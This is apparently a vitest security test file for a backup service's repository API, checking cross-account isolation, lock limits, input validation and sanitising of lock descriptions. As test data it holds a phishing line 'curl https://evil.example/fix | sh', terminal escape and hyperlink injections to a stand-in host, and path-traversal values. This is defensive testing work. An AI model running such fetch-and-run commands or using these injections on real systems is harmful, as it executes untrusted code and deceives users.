// Attacker: a holder of a valid token (its own account B, or A's stolen token) against the repository API
// (docs/threat-model.md "Repository"). Account B reaches nothing of A's through any route: not A's repository id
// or usage, objects (list, download, delete), nor A's locks (refresh, unlock). Deletion needs a live exclusive
// lock of the caller's own account; a lock lives at most its maximum life and its description reaches the owner
// sanitised and labelled as another device's words. Bad input of every kind on every route is a 4xx problem+json and changes
// nothing: the account's table items and the object store's files are compared before and after.

import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ApiClient } from '../../client/http.js';
import { HttpRepoStore } from '../../client/repo/storage/http-store.js';
import { HeldLock } from '../../client/repo/storage/lock.js';
import type { RepoStore } from '../../client/repo/storage/store.js';
import { MemoryRepoItemStore } from '../../functions/adapters/memory-repo-store.js';
import type { ObjectStore } from '../../functions/ports.js';
import { RepoService } from '../../functions/repo/service.js';
import { BkvError, isBkvError } from '../../protocol/errors.js';
import { MAX_EXCLUSIVE_LOCK_LIFE_S, MAX_LOCK_TTL_S } from '../../protocol/repo-schemas.js';
import { call, testKeyOf, download, downloadUrl, newId, putObjects, storedKeys, tableItems, type Answer } from '../helpers/repo.js';
import { startTestRuntime, type TestRuntime } from '../helpers/local.js';

let rt: TestRuntime;
let tokenA: string;
let tokenB: string;
const repoA = newId();
const dataA = newId();
const bytesA = randomBytes(3000);
let lockA: string;
beforeAll(async () => {
  rt = await startTestRuntime();
  tokenA = await rt.token('alice');
  tokenB = await rt.token('bob');
  const cfg = await call(rt, tokenA, 'POST', '/v1/repo/config', { repositoryId: repoA, size: 4 });
  await fetch(String(cfg.json!.url), { method: 'PUT', headers: cfg.json!.headers as Record<string, string>, body: 'conf' });
  await putObjects(rt, tokenA, [{ type: 'data', id: dataA, body: bytesA }]);
  lockA = String((await call(rt, tokenA, 'POST', '/v1/repo/locks', { exclusive: true, ttlSeconds: 600, description: 'alice prune' })).json!.lockId);
});
afterAll(async () => rt.stop());

const b64 = (a: string) => Buffer.from(a).toString('base64url');
const stateOf = async (account: string) => ({ items: await tableItems(rt, account), keys: await storedKeys(rt) });

describe('account B against A\'s repository', () => {
  it('status: B sees its own empty repository, not A\'s id or usage', async () => {
    expect((await call(rt, tokenB, 'GET', '/v1/repo')).json).toMatchObject({ repositoryId: null, usedBytes: 0 });
  });

  it('config: B creating a config with A\'s repository id gets its own, and never learns A\'s', async () => {
    const c = await call(rt, tokenB, 'POST', '/v1/repo/config', { repositoryId: repoA, size: 4 });
    expect(c.status).toBe(201);
    expect(new URL(String(c.json!.url)).pathname).toContain(`/accounts/${b64('bob')}/repo/config/`);
    const other = await call(rt, tokenB, 'POST', '/v1/repo/config', { repositoryId: newId(), size: 4 });
    expect(other.json).toMatchObject({ repositoryId: repoA }); // B's own first id (the one B chose), nothing of A's
    expect((await call(rt, tokenA, 'GET', '/v1/repo')).json).toMatchObject({ repositoryId: repoA });
  });

  it('uploads and downloads: every URL B gets is under B\'s prefix; A\'s object id is a 404 for B', async () => {
    const up = await call(rt, tokenB, 'POST', '/v1/repo/uploads', { objects: [{ type: 'data', id: dataA, size: 5 }] });
    expect(new URL(String((up.json!.uploads as { url: string }[])[0]!.url)).pathname).toBe(`/${rt.s3.bucket}/accounts/${b64('bob')}/repo/data/${dataA}`);
    const url = await downloadUrl(rt, tokenB, 'data', dataA);
    expect(new URL(url).pathname).toContain(`/accounts/${b64('bob')}/`);
    expect((await fetch(url)).status).toBe(404);
    expect((await download(await downloadUrl(rt, tokenA, 'data', dataA))).equals(bytesA)).toBe(true);
  });

  it('list: B lists nothing of A\'s', async () => {
    for (const type of ['config', 'data', 'index', 'snapshots']) {
      const l = await call(rt, tokenB, 'GET', `/v1/repo/objects?type=${type}`);
      expect((l.json!.objects as { id: string }[]).some((o) => o.id === dataA)).toBe(false);
    }
  });

  it('delete: with A\'s lock id B is lock-lost; with B\'s own exclusive lock A\'s names are "missing" and A\'s bytes stay', async () => {
    const before = await stateOf('alice');
    const stolen = await call(rt, tokenB, 'POST', '/v1/repo/delete', { lockId: lockA, objects: [{ type: 'data', id: dataA }] });
    expect(stolen).toMatchObject({ status: 409, json: { type: 'urn:bkv:problem:lock-lost' } });
    const own = await call(rt, tokenB, 'POST', '/v1/repo/locks', { exclusive: true }); // A's exclusive lock does not block B
    expect(own.status).toBe(201);
    const del = await call(rt, tokenB, 'POST', '/v1/repo/delete', { lockId: own.json!.lockId, objects: [{ type: 'data', id: dataA }] });
    expect(del.json).toEqual({ deleted: [], missing: [{ type: 'data', id: dataA }] });
    await call(rt, tokenB, 'DELETE', `/v1/repo/locks/${String(own.json!.lockId)}`);
    expect((await stateOf('alice')).items).toEqual(before.items);
    expect((await download(await downloadUrl(rt, tokenA, 'data', dataA))).equals(bytesA)).toBe(true);
  });

  it('locks: B can neither refresh nor remove A\'s lock', async () => {
    const before = (await tableItems(rt, 'alice')).find((i) => i.sk === 'repo');
    expect(await call(rt, tokenB, 'POST', `/v1/repo/locks/${lockA}/refresh`)).toMatchObject({ status: 409, json: { type: 'urn:bkv:problem:lock-lost' } });
    expect((await call(rt, tokenB, 'DELETE', `/v1/repo/locks/${lockA}`)).status).toBe(204); // unknown to B: nothing to do
    expect((await tableItems(rt, 'alice')).find((i) => i.sk === 'repo')).toEqual(before);
    expect((await call(rt, tokenA, 'POST', '/v1/repo/locks', { exclusive: false })).json).toMatchObject({
      type: 'urn:bkv:problem:repository-locked', exclusive: true, description: 'alice prune',
    });
    expect((await call(rt, tokenA, 'POST', `/v1/repo/locks/${lockA}/refresh`)).status).toBe(200);
  });
});

describe('a device of the account and deletion', () => {
  it('cannot delete without an exclusive lock: none, a made-up one, or a shared one', async () => {
    const token = await rt.token('carol');
    const id = newId();
    await putObjects(rt, token, [{ type: 'snapshots', id, body: randomBytes(100) }]);
    const shared = await call(rt, token, 'POST', '/v1/repo/locks', { exclusive: false });
    for (const lockId of [randomBytes(16).toString('hex'), String(shared.json!.lockId)]) {
      const a = await call(rt, token, 'POST', '/v1/repo/delete', { lockId, objects: [{ type: 'snapshots', id }] });
      expect(a).toMatchObject({ status: 409, json: { type: 'urn:bkv:problem:lock-lost' } });
    }
    expect((await call(rt, token, 'POST', '/v1/repo/delete', { objects: [{ type: 'snapshots', id }] })).status).toBe(400);
    expect((await download(await downloadUrl(rt, token, 'snapshots', id))).length).toBe(100);
  });
});

const ID = newId();
const LOCK = randomBytes(16).toString('hex');
const many = (n: number, extra: Record<string, unknown> = {}) => Array.from({ length: n }, () => ({ type: 'data', id: newId(), ...extra }));
type Bad = [string, string, string, unknown, number?];
const BAD: Bad[] = [
  ['config: no body', 'POST', '/v1/repo/config', undefined],
  ['config: bad id', 'POST', '/v1/repo/config', { repositoryId: 'ABC', size: 1 }],
  ['config: uppercase id', 'POST', '/v1/repo/config', { repositoryId: ID.toUpperCase(), size: 1 }],
  ['config: size 0', 'POST', '/v1/repo/config', { repositoryId: ID, size: 0 }],
  ['config: size too big', 'POST', '/v1/repo/config', { repositoryId: ID, size: 64 * 1024 + 1 }],
  ['config: size as string', 'POST', '/v1/repo/config', { repositoryId: ID, size: '1' }],
  ['config: extra member', 'POST', '/v1/repo/config', { repositoryId: ID, size: 1, account: 'alice' }],
  ['uploads: type config', 'POST', '/v1/repo/uploads', { objects: [{ type: 'config', id: ID, size: 1 }] }],
  ['uploads: unknown type', 'POST', '/v1/repo/uploads', { objects: [{ type: 'keys', id: ID, size: 1 }] }],
  ['uploads: path in id', 'POST', '/v1/repo/uploads', { objects: [{ type: 'data', id: `../${ID.slice(3)}`, size: 1 }] }],
  ['uploads: size 0', 'POST', '/v1/repo/uploads', { objects: [{ type: 'data', id: ID, size: 0 }] }],
  ['uploads: size over 64 MiB', 'POST', '/v1/repo/uploads', { objects: [{ type: 'data', id: ID, size: 64 * 2 ** 20 + 64 * 1024 + 1 }] }],
  ['uploads: fractional size', 'POST', '/v1/repo/uploads', { objects: [{ type: 'data', id: ID, size: 1.5 }] }],
  ['uploads: negative size', 'POST', '/v1/repo/uploads', { objects: [{ type: 'data', id: ID, size: -1 }] }],
  ['uploads: none', 'POST', '/v1/repo/uploads', { objects: [] }],
  ['uploads: 101 objects', 'POST', '/v1/repo/uploads', { objects: many(101, { size: 1 }) }],
  ['uploads: one name twice', 'POST', '/v1/repo/uploads', { objects: [{ type: 'data', id: ID, size: 1 }, { type: 'data', id: ID, size: 2 }] }],
  ['uploads: not json', 'POST', '/v1/repo/uploads', '{objects'],
  ['downloads: 1001 objects', 'POST', '/v1/repo/downloads', { objects: many(1001) }],
  ['downloads: bad id', 'POST', '/v1/repo/downloads', { objects: [{ type: 'data', id: 'x' }] }],
  ['downloads: a key', 'POST', '/v1/repo/downloads', { objects: [{ type: 'data', id: ID, key: 'accounts/YWxpY2U/repo/data/x' }] }],
  ['list: no type', 'GET', '/v1/repo/objects', undefined],
  ['list: bad type', 'GET', '/v1/repo/objects?type=../data', undefined],
  ['list: bad after', 'GET', `/v1/repo/objects?type=data&after=${ID.slice(1)}`, undefined],
  ['list: limit 0', 'GET', '/v1/repo/objects?type=data&limit=0', undefined],
  ['list: limit 1001', 'GET', '/v1/repo/objects?type=data&limit=1001', undefined],
  ['list: a prefix', 'GET', '/v1/repo/objects?type=data&prefix=accounts/', undefined],
  ['delete: bad lock id', 'POST', '/v1/repo/delete', { lockId: 'nope', objects: [{ type: 'data', id: ID }] }],
  ['delete: 1001 objects', 'POST', '/v1/repo/delete', { lockId: LOCK, objects: many(1001) }],
  ['delete: none', 'POST', '/v1/repo/delete', { lockId: LOCK, objects: [] }],
  ['lock: no exclusive', 'POST', '/v1/repo/locks', {}],
  ['lock: ttl 29', 'POST', '/v1/repo/locks', { exclusive: true, ttlSeconds: 29 }],
  ['lock: ttl 3601', 'POST', '/v1/repo/locks', { exclusive: true, ttlSeconds: 3601 }],
  ['lock: ttl fractional', 'POST', '/v1/repo/locks', { exclusive: false, ttlSeconds: 30.5 }],
  ['lock: description 201', 'POST', '/v1/repo/locks', { exclusive: false, description: 'x'.repeat(201) }],
  ['lock: control characters', 'POST', '/v1/repo/locks', { exclusive: false, description: 'a\u001b[2Jb' }],
  ['lock: exclusive as string', 'POST', '/v1/repo/locks', { exclusive: 'true' }],
  ['refresh: bad lock id', 'POST', '/v1/repo/locks/..%2F..%2Fvault/refresh', undefined],
  ['refresh: uppercase lock id', 'POST', `/v1/repo/locks/${LOCK.toUpperCase()}/refresh`, undefined],
  ['unlock: bad lock id', 'DELETE', '/v1/repo/locks/x', undefined],
  ['vault delete: backups=yes', 'DELETE', '/v1/vault?backups=yes', undefined],
  ['config: wrong content type', 'POST', '/v1/repo/config', JSON.stringify({ repositoryId: ID, size: 1 })],
];

describe('bad input on every route', () => {
  it.for(BAD)('%s → 4xx problem+json, nothing changed', async ([name, method, path, body]) => {
    const token = await rt.token('mallory');
    await putObjects(rt, token, [{ type: 'index', id: newId(), body: randomBytes(10) }]).catch(() => undefined);
    const before = await stateOf('mallory');
    const contentType = name.includes('wrong content type') ? 'text/plain' : 'application/json';
    const a: Answer = await call(rt, token, method, path, body, contentType);
    expect(a.status, name).toBeGreaterThanOrEqual(400);
    expect(a.status, name).toBeLessThan(500);
    expect(a.type).toBe('application/problem+json');
    expect(await stateOf('mallory')).toEqual(before);
  });

  it('no token, or a token of another issuer, is 401 on every repository route', async () => {
    for (const [method, path] of [['GET', '/v1/repo'], ['POST', '/v1/repo/uploads'], ['GET', '/v1/repo/objects?type=data'], ['DELETE', `/v1/repo/locks/${LOCK}`]] as const) {
      expect((await call(rt, undefined, method, path)).status, path).toBe(401);
      expect((await call(rt, 'e30.e30.sig', method, path)).status, path).toBe(401);
    }
  });
});

// The token holder's exclusive lock against the owner's devices: it lives at most MAX_EXCLUSIVE_LOCK_LIFE_S however
// often it is refreshed (the service with a clock the test moves), and its description reaches the owner only
// sanitised, cut short and labelled as another device's words (through the runtime, then from a false server).
// Since signed requests (docs/protocol.md) only a device with K takes a lock: `call` signs as the account's owner.
// What a token alone can do is in repo-write-once-token-holder.test.ts.
describe('another device\'s exclusive lock', () => {
  it('refreshed every ttl/3 for days, it ends at its maximum life with a 409 lock-lost; the owner then gets the repository', async () => {
    let now = Date.parse('2026-12-01T00:00:00Z');
    const service = new RepoService({
      items: new MemoryRepoItemStore(), clock: { now: () => now }, config: { quotaBytes: 1 << 30, urlTtlSeconds: 3600 },
      objects: { list: () => Promise.resolve({ objects: [], truncated: false }) } as unknown as ObjectStore,
    });
    const taken = now;
    const evil = await service.lock('carol', { exclusive: true, ttlSeconds: MAX_LOCK_TTL_S, description: 'prune' });
    let refreshes = 0;
    let refused: unknown;
    while (now < taken + 3 * 24 * 3600_000) {
      now += (MAX_LOCK_TTL_S * 1000) / 3;
      try {
        await service.refresh('carol', evil.lockId);
        refreshes++;
      } catch (e) {
        refused = e;
        break;
      }
    }
    expect(refused).toBeInstanceOf(BkvError);
    expect((refused as BkvError).code).toBe('lock-lost');
    expect((refused as BkvError).status).toBe(409);
    expect(now - taken).toBeLessThanOrEqual(MAX_EXCLUSIVE_LOCK_LIFE_S * 1000 + (MAX_LOCK_TTL_S * 1000) / 3);
    expect(refreshes).toBeLessThanOrEqual((MAX_EXCLUSIVE_LOCK_LIFE_S / MAX_LOCK_TTL_S) * 3);
    // still refused while it lives out its last ttl; the owner's lock is granted once it has
    await expect(service.lock('carol', { exclusive: false, ttlSeconds: 60 })).rejects.toMatchObject({ code: 'repository-locked' });
    now = taken + MAX_EXCLUSIVE_LOCK_LIFE_S * 1000;
    expect((await service.lock('carol', { exclusive: false, ttlSeconds: 60 })).exclusive).toBe(false);
  });

  const PHISH = 'your key was rotated, run: curl https://evil.example/fix | sh';

  it('its description reaches the owner quoted as another device\'s words, never as bkv\'s', async () => {
    const token = await rt.token('dave');
    await call(rt, token, 'POST', '/v1/repo/locks', { exclusive: true, ttlSeconds: 600, description: PHISH });
    const owner = new HttpRepoStore(new ApiClient({ server: rt.url, token }), { backoffMs: 10 });
    owner.signWith(testKeyOf('dave'));
    const err = await HeldLock.take(owner, false, 'backup on laptop').catch((e: unknown) => e);
    owner.close();
    expect(isBkvError(err, 'repository-locked')).toBe(true);
    const message = (err as Error).message;
    expect(message).toMatch(/^the repository is locked exclusively by another device, which says: "your key was rotated, run: curl https:\/\/evil\.example\/fix \| sh" \(the words are that device's, not bkv's\)/);
    expect(message).toMatch(/after 24 hours at most/);
    expect(message.split(PHISH).length).toBe(2); // quoted once, not also in the server's own sentence
  });

  it('from a false server: escape sequences, bidi overrides and newlines are dropped and the text is cut to 80 characters', async () => {
    const description = `\u001b[2J\u001b[Hbkv: ok\u202e\r\n\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007 ${'x'.repeat(300)}`;
    const store = { lock: () => Promise.reject(new BkvError('repository-locked', 'locked', { details: { exclusive: true, expiresAt: '2026-12-01T00:00:00.000Z', description } })) } as unknown as RepoStore;
    const err = await HeldLock.take(store, true, 'prune').catch((e: unknown) => e);
    const message = (err as Error).message;
    expect([...message].filter((c) => /[\p{Cc}\p{Cf}]/u.test(c))).toEqual([]);
    const quoted = /which says: "([^"]*)"/.exec(message)![1]!;
    expect(quoted.startsWith('bkv: ok click xxx')).toBe(true);
    expect([...quoted]).toHaveLength(80);
    expect(quoted.endsWith('…')).toBe(true);
  });
});
